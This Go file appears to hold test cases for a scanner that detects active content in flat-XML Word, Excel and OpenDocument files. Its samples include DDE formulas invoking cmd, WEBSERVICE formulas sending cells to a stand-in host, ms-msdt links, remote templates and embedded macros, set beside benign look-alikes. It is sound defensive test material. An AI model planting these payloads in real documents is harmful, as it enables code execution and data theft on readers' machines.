package corpus

import (
	"strings"

	"airlock"
)

const (
	flatSpace = `xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"`
	word2003  = `xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"`
	sheet2003 = `xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"`
)

// flatPart is a part of a package in one file of XML: its content, or base64 where that is no markup.
func flatPart(name, kind, content string) string {
	inner := "<pkg:xmlData>" + content + "</pkg:xmlData>"
	if !strings.HasPrefix(content, "<") {
		inner = "<pkg:binaryData>" + wrap(inBase64(content), 76) + "</pkg:binaryData>"
	}
	return `<pkg:part pkg:name="` + name + `" pkg:contentType="` + kind + `">` + inner + `</pkg:part>`
}

func flatPackage(more ...string) string {
	return xmlV1 + `<?mso-application progid="Word.Document"?><pkg:package ` + flatSpace + `>` +
		flatPart("/word/document.xml", docxMain, wordText("")[len(xmlV1):]) + strings.Join(more, "") + `</pkg:package>`
}

func flatWord(inner string) string {
	return xmlV1 + `<?mso-application progid="Word.Document"?><w:wordDocument ` + word2003 + `><w:body><w:p><w:r><w:t>DDEAUTO is a field.</w:t></w:r></w:p>` + inner + `</w:body></w:wordDocument>`
}

func flatSheet(inner string) string {
	return xmlV1 + `<?mso-application progid="Excel.Sheet"?><Workbook ` + sheet2003 + `>` + inner + `</Workbook>`
}

func flatCell(attrs string) string {
	return flatSheet(`<Worksheet ss:Name="a"><Table><Row><Cell ` + attrs + `><Data ss:Type="Number">1</Data></Cell></Row></Table></Worksheet>`)
}

func flatODF(inner string) string {
	return xmlV1 + `<o:document xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><o:body>` + inner + `</o:body></o:document>`
}

func flatOfficeCases() []Case {
	var cases []Case
	add := func(want airlock.Reason, name, s string) {
		cases = append(cases, Case{Name: "flat-" + name + ".xml", Type: xmlType, Want: want, Make: literally(s)})
	}
	runs := func(name, s string) { add(airlock.ActiveContent, name, s) }
	const relsType = "application/vnd.openxmlformats-package.relationships+xml"
	relsOf := func(kind, target string) string { return rels(kind, target)[len(xmlV1):] }
	macroBook := string(oleOf{streams: excelParts(macros("_VBA_PROJECT_CUR/")...)}.make())

	runs("package-with-macros", flatPackage(flatPart("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject", vbaBin())))
	runs("package-with-macros-under-another-name", flatPackage(flatPart("/word/media/a.bin", "application/octet-stream", vbaBin())))
	runs("package-of-a-macro-document", strings.Replace(flatPackage(), docxMain, "application/vnd.ms-word.document.macroEnabled.main+xml", 1))
	runs("package-with-a-template", flatPackage(flatPart("/word/_rels/settings.xml.rels", relsType, relsOf("attachedTemplate", "https://example.org/a.dotm!"))))
	runs("package-with-a-template-in-base64", flatPackage(flatPart("/word/_rels/settings.xml.rels", relsType, "\n"+relsOf("attachedTemplate", "https://example.org/a.dotm!"))))
	runs("package-with-a-picture-on-a-share", flatPackage(flatPart("/word/_rels/document.xml.rels", relsType, relsOf("image", `\\example.org\s\a.png!`))))
	runs("word-with-a-picture-on-a-share", flatWord(`<w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata src="file:///\\example.org\s\a.png"/></v:shape></w:pict>`))
	runs("odf-with-a-picture-on-a-share", flatODF(`<draw:image xlink:href="//example.org/s/a.png"/>`))
	add("", "odf-with-a-picture-of-the-web", flatODF(`<draw:image xlink:href="https://example.org/a.png"/>`))
	add("", "word-with-a-picture-of-its-own", flatWord(`<w:pict xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:o"><w:binData w:name="wordml://01.png">iVBORw0KGgo=</w:binData><v:shape><v:imagedata src="wordml://01.png" o:title="//example.org/s/a.png"/></v:shape></w:pict>`))
	runs("package-with-dde", flatPackage(flatPart("/word/header1.xml", "a/b", `<w:hdr `+wordSpace+`><w:p>`+code("DD", "E cmd")+`</w:p></w:hdr>`)))
	runs("package-with-dde-by-a-quote", flatPackage(flatPart("/word/header1.xml", "a/b", `<w:hdr `+wordSpace+`><w:p>`+code(code("QUOTE 68 68 69"), " cmd")+`</w:p></w:hdr>`)))
	runs("package-with-a-document-with-macros", flatPackage(flatPart("/word/embeddings/a.docx", docxType, string(docmOf()))))
	runs("package-with-a-program-put-in", flatPackage(flatPart("/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", string(oleOf{streams: []olePart{{path: "\x01Ole10Native", data: native("a.exe", aProgram)}}}.make()))))
	runs("package-with-rtf", flatPackage(flatPart("/word/a.rtf", "application/rtf", `{\rtf1{\*\template http://example.org/a}}`)))
	runs("package-with-a-page", flatPackage(flatPart("/word/a.html", "text/html", " <html><script>alert(1)</script></html>")))
	runs("package-by-another-prefix", strings.ReplaceAll(flatPackage(flatPart("/word/vbaProject.bin", "x", "x")), "pkg:", "p:"))
	runs("word-with-dde", flatWord(`<w:p>`+code("DDEAUTO cmd")+`</w:p>`))
	runs("word-with-a-template", flatWord(`<w:docPr><w:attachedTemplate w:val="https://example.org/a.dot"/></w:docPr>`))
	runs("word-with-macros", flatWord(`<w:docSuppData><w:binData w:name="a">`+inBase64("ActiveMime\x00\x00\x01\xf0")+`</w:binData></w:docSuppData>`))
	runs("word-with-a-macro-book-inside", flatWord(`<w:docOleData><w:binData w:name="oledata.mso">`+wrap(inBase64(macroBook), 76)+`</w:binData></w:docOleData>`))
	runs("word-with-controls", strings.Replace(flatWord(""), "<w:wordDocument ", `<w:wordDocument w:ocxPresent="yes" `, 1))
	runs("word-with-a-frame-from-the-web", flatWord(`<w:frameset><w:frame><w:sourceFileName w:val="http://example.org/"/></w:frame></w:frameset>`))
	runs("word-with-a-link-that-runs", flatWord(`<w:hlink w:dest="ms-msdt:/id x"/>`))
	runs("excel-with-dde", flatCell(`ss:Formula="=cmd|'/c calc'!A0"`))
	runs("excel-with-dde-by-a-reference", flatCell(`ss:Formula="&#61;cmd&#x7c;'/c calc'!A0"`))
	runs("excel-with-dde-as-a-name", flatSheet(`<Names><NamedRange ss:Name="a" ss:RefersTo="=cmd|'/c calc'!A0"/></Names>`))
	runs("excel-that-sends-cells", flatCell(`ss:Formula="=WEBSERVICE(&quot;http://example.org/&quot;&amp;RC[1])"`))
	runs("excel-with-a-link-that-runs", flatCell(`ss:HRef="javascript:alert(1)"`))
	runs("opendocument-with-a-macro-on-load", flatODF(`<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>`))
	runs("opendocument-with-an-object-from-the-web", flatODF(`<draw:object xlink:href="http://example.org/a.ods"/>`))
	runs("opendocument-with-a-macro-book-inside", flatODF(`<draw:object-ole><o:binary-data>`+inBase64(macroBook)+`</o:binary-data></draw:object-ole>`))
	runs("opendocument-with-a-macro-of-another-element", flatODF(`<script:event script:event-name="dom:load" script:macro-name="a"/>`))
	runs("opendocument-with-a-form-that-fetches", flatODF(`<x:instance xmlns:x="http://www.w3.org/2002/xforms" src="http://example.org/a.xml"/>`))
	runs("opendocument-with-a-form-that-fetches-by-another-prefix", flatODF(`<x:instance xmlns:x="http://www.w3.org/2002/xforms" text:src="file:///etc/hostname"/>`))
	runs("opendocument-with-a-rule-that-sends-cells", flatODF(`<c:condition xmlns:c="urn:c" c:value="formula-is(WEBSERVICE(&quot;http://example.org/&quot;))"/>`))
	runs("opendocument-with-a-table-from-the-web", flatODF(`<t:table-source xmlns:t="urn:t" xlink:href="http://example.org/a.csv"/>`))
	runs("opendocument-with-dde-to-the-web", flatODF(`<o:dde-source o:dde-application="soffice" o:dde-topic="http://example.org/a.ods"/>`))
	others := func(s string) string {
		return strings.ReplaceAll(s, "urn:oasis:names:tc:opendocument:", "urn:oasis:names:tc:anything:")
	}
	runs("opendocument-of-another-committee-with-a-link-that-runs", others(flatODF(`<text:a xlink:href="ms-msdt:/id"/>`)))
	runs("opendocument-of-another-committee-with-a-macro", others(flatODF(`<script:event-listener script:macro-name="a"/>`)))
	runs("listener-of-another-committee", `<a xmlns:s="urn:oasis:names:tc:anything:xmlns:script:1.0"><s:event-listener/></a>`)
	rule := func(element, formula string) string {
		return flatSheet(`<Worksheet ss:Name="a"><x:ConditionalFormatting xmlns:x="urn:schemas-microsoft-com:office:excel"><x:Range>R1C1</x:Range><x:Condition><x:` + element + `>` + formula + `</x:` + element + `></x:Condition></x:ConditionalFormatting></Worksheet>`)
	}
	for _, element := range []string{"Value", "Value1", "Value2", "Min", "Max"} {
		runs("excel-with-dde-in-a-rule-"+element, rule(element, `cmd|'/c calc'!A0`))
	}
	runs("excel-with-a-rule-that-sends-cells", rule("Value1", `LEN(WEBSERVICE(&quot;http://example.org/&quot;))&gt;<![CDATA[1]]>`))
	runs("excel-with-a-split-rule-that-sends-cells", rule("Value1", `LEN(WEB<!-- -->SERVICE(1))`))
	add("", "excel-with-a-rule", rule("Value1", `LEN(&quot;WEBSERVICE(1) cmd|'a'!A1&quot;)&gt;R1C1`))
	add("", "excel-with-a-list", rule("Value", `&quot;call (me),exec (2)&quot;`))
	add("", "opendocument-with-a-form", flatODF(`<x:instance xmlns:x="http://www.w3.org/2002/xforms" src="#a"/><form:option xmlns:form="urn:f" form:value="call (me)"/>`))
	add("", "opendocument-of-another-committee", others(flatODF(`<text:a xlink:href="https://example.org/">x</text:a>`)))
	add("", "catalogue-of-another-committee", `<catalog xmlns="urn:oasis:names:tc:entity:xmlns:xml:catalog"><uri name="http://example.org/a.xsd" uri="a.xsd"/><system systemId="http://example.org/a.dtd" uri="file:///usr/share/a.dtd"/></catalog>`)
	add("", "of-others-with-rules", `<a xmlns:x="urn:x"><x:Value1>cmd|'/c calc'!A0</x:Value1><condition value="WEBSERVICE(1)"/></a>`)
	add(airlock.Uninspectable, "excel-whose-formula-is-endless", flatCell(`ss:Formula="=`+strings.Repeat(" ", 70000)+`cmd|'/c calc'!A0"`))

	picture := "\x89PNG\r\n\x1a\n" + strings.Repeat("x", 20000)
	add("", "package", flatPackage(flatPart("/word/media/image1.png", "image/png", picture), flatPart("/word/_rels/document.xml.rels", relsType, relsOf("hyperlink", "https://example.org/!"))))
	add("", "package-with-a-workbook", flatPackage(flatPart("/word/embeddings/a.xlsx", xlsxType, string(pack(xlsxParts, nil)))))
	add("", "word-with-a-picture", flatWord(`<w:pict><w:binData w:name="wordml://1.png">`+wrap(inBase64(picture), 76)+`</w:binData></w:pict><w:p>`+code(`HYPERLINK "https://example.org"`)+`</w:p>`))
	add("", "word-with-a-template-on-a-disk", flatWord(`<w:docPr><w:attachedTemplate w:val="C:\Templates\a.dot"/></w:docPr>`))
	add("", "excel", flatCell(`ss:Formula="=SUM(R[-3]C:R[-1]C)&amp;&quot;|'x'!&quot;" ss:HRef="https://example.org/"`))
	add("", "opendocument", flatODF(`<text:p>Hello</text:p><draw:image><o:binary-data>`+wrap(inBase64(picture), 76)+`</o:binary-data></draw:image>`))
	add("", "of-others-that-speaks-of-fields", `<book><script>DDE</script><f>cmd|'/c calc'!A0</f><instrText>DDE cmd</instrText><part name="x.exe"/></book>`)
	return cases
}
